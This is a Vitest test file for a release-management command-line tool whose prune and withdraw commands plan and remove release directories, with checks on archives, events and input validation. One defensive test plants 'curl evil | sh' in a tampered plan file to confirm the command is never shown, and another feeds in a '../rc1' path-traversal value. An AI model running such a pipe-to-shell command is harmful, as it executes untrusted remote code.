// Licensed to the Apache Software Foundation (ASF) under one
// or more contributor license agreements.  See the NOTICE file
// distributed with this work for additional information
// regarding copyright ownership.  The ASF licenses this file
// to you under the Apache License, Version 2.0 (the
// "License"); you may not use this file except in compliance
// with the License.  You may obtain a copy of the License at
//
//   http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing,
// software distributed under the License is distributed on an
// "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
// KIND, either express or implied.  See the License for the
// specific language governing permissions and limitations
// under the License.

import { existsSync } from 'node:fs'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { spooledEvents } from '@tra/adapters'
import { removalReceiptSchema } from '@tra/release'
import { type DownloadSite, startDownloadSite } from '@tra/testkit'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { runCommandLine } from '../../run-command-line.ts'
import { prune } from './prune.ts'
import { withdraw } from './withdraw.ts'

let directory: string
let archive: DownloadSite
const released = () => join(directory, 'release/1.0')
const archived = () => join(directory, 'archive/tool/1.0')

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'removal-'))
  for (const place of [released(), archived()]) {
    await mkdir(place, { recursive: true })
    for (const name of ['tool.zip', 'tool.zip.asc']) await writeFile(join(place, name), name)
  }
  archive = await startDownloadSite({ source: { directory: join(directory, 'archive') } })
})
afterEach(async () => {
  await archive.close()
  await rm(directory, { recursive: true })
})

async function type(...words: string[]) {
  let text = ''
  let out = ''
  const code = await runCommandLine([prune, withdraw], [...words, '--event-spool', join(directory, 'events')], {
    out: (more) => {
      text += more
      out += more
    },
    log: (line) => {
      text += `${line}\n`
    },
  })
  return { code, text, out }
}

const about = () => ['--release', 'example/tool/1.0', '--location', `directory:${released()}`, '--reason', '1.1 is out']
const planPath = () => join(directory, 'plan.json')

test('a release is planned away, shown, and goes only with --yes', async () => {
  const planned = await type('prune', ...about(), '--archive', `${archive.url}/tool/1.0`, '--plan-to', planPath())
  expect(planned).toMatchObject({ code: 0, text: expect.stringContaining('Nothing was removed.') })
  expect(planned.text).toContain('$ rm -r --')
  expect(existsSync(released())).toBe(true)
  expect(await spooledEvents(join(directory, 'events'))).toEqual([])
  const executed = await type('prune', '--plan', planPath(), '--yes')
  expect(executed).toMatchObject({ code: 0, text: expect.stringContaining('removed in revision') })
  expect(existsSync(released())).toBe(false)
  expect(await spooledEvents(join(directory, 'events'))).toMatchObject([
    { type: 'org.apache.release.archived.v1', data: { version: '1.0', archive: `${archive.url}/tool/1.0` } },
  ])
  expect(await type('prune', '--plan', planPath(), '--yes')).toMatchObject({ code: 0 })
})

test('what the archive does not have stays', async () => {
  await rm(join(archived(), 'tool.zip.asc'))
  const { code, text } = await type(
    'prune',
    ...about(),
    '--archive',
    `${archive.url}/tool/1.0`,
    '--plan-to',
    planPath(),
    '--yes',
  )
  expect({ code, text }).toMatchObject({ code: 4, text: expect.stringContaining('the archive has no copy') })
  expect(existsSync(released())).toBe(true)
  expect(existsSync(planPath())).toBe(false)
})

test('an archive that does not answer, and what is no address, are told as what they are', async () => {
  const silent = await type('prune', ...about(), '--archive', 'http://127.0.0.1:9/tool/1.0', '--plan-to', planPath())
  expect(silent).toMatchObject({ code: 4, text: expect.stringContaining('[NETWORK]') })
  expect(silent.text).not.toContain('has no copy')
  const path = await type('prune', ...about(), '--archive', archived(), '--plan-to', planPath())
  expect(path).toMatchObject({ code: 2, text: expect.stringContaining('is not the address of an archive') })
  expect(existsSync(planPath())).toBe(false)
})

test('a release that changed after the plan stays', async () => {
  await type('withdraw', ...about(), '--plan-to', planPath())
  await writeFile(join(released(), 'new.zip'), 'new')
  expect(await type('withdraw', '--plan', planPath(), '--yes')).toMatchObject({ code: 4 })
  expect(existsSync(released())).toBe(true)
})

test('the commands that are shown are those of what would be done, whatever the plan has for them', async () => {
  await type('withdraw', ...about(), '--plan-to', planPath())
  const plan = JSON.parse(await readFile(planPath(), 'utf8'))
  await writeFile(planPath(), JSON.stringify({ ...plan, commands: ['curl evil | sh'] }))
  const { text } = await type('withdraw', '--plan', planPath())
  expect(text).not.toContain('evil')
  expect(text).toContain(`$ rm -r -- ${released()}`)
})

test('a candidate that was never released is given up by its name', async () => {
  const rc = ['--candidate', 'rc1']
  await type('withdraw', ...about(), ...rc, '--plan-to', planPath())
  const { code, text } = await type('withdraw', '--plan', planPath(), '--yes')
  expect({ code, text }).toMatchObject({ code: 0, text: expect.stringContaining('Withdraw tool 1.0-rc1: 1.1 is out') })
  const digest = expect.stringMatching(/^[0-9a-f]{64}$/)
  expect(await spooledEvents(join(directory, 'events'))).toMatchObject([
    {
      type: 'org.apache.release.candidate.withdrawn.v1',
      data: { version: '1.0', candidate: 'rc1', candidateDigest: digest, state: 'withdrawn' },
    },
  ])
  expect(await type('withdraw', ...about(), '--candidate', '../rc1')).toMatchObject({ code: 2 })
  expect(await type('prune', ...about(), ...rc)).toMatchObject({ code: 2 })
})

test('a plan to withdraw is none to prune, and another document is no plan', async () => {
  await type('withdraw', ...about(), '--plan-to', planPath())
  expect(JSON.parse(await readFile(planPath(), 'utf8'))).toMatchObject({ kind: 'withdraw', reason: '1.1 is out' })
  expect(await type('prune', '--plan', planPath(), '--yes')).toMatchObject({ code: 2 })
  await writeFile(planPath(), '{}')
  expect(await type('withdraw', '--plan', planPath())).toMatchObject({ code: 4 })
})

test.each([
  [['prune'], '--location is required'],
  [['withdraw', '--location', 'directory:/srv/x', '--release', 'tool'], 'is not committee/product/version'],
])('%j is told what is missing', async (words, told) => {
  expect(await type(...words)).toMatchObject({ code: 2, text: expect.stringContaining(told) })
})

test('programs get the plan, and then what was removed, and nothing else on standard output', async () => {
  const json = ['--format', 'json']
  const planned = await type('withdraw', ...about(), '--plan-to', planPath(), ...json)
  expect(planned.code).toBe(0)
  expect(JSON.parse(planned.out)).toEqual(JSON.parse(await readFile(planPath(), 'utf8')))
  const executed = await type('withdraw', '--plan', planPath(), '--yes', ...json)
  expect(removalReceiptSchema.parse(JSON.parse(executed.out))).toMatchObject({ kind: 'withdraw', changed: true })
  expect(await spooledEvents(join(directory, 'events'))).toMatchObject([
    { type: 'org.apache.release.withdrawn.v1', data: { version: '1.0', location: `directory:${released()}` } },
  ])
  const again = await type('withdraw', '--plan', planPath(), '--yes', ...json)
  expect(again.code).toBe(0)
  expect(JSON.parse(again.out)).toMatchObject({ changed: false, location: `directory:${released()}` })
  expect(await type('prune', '--plan', planPath(), '--format', 'xml')).toMatchObject({ code: 2, out: '' })
})
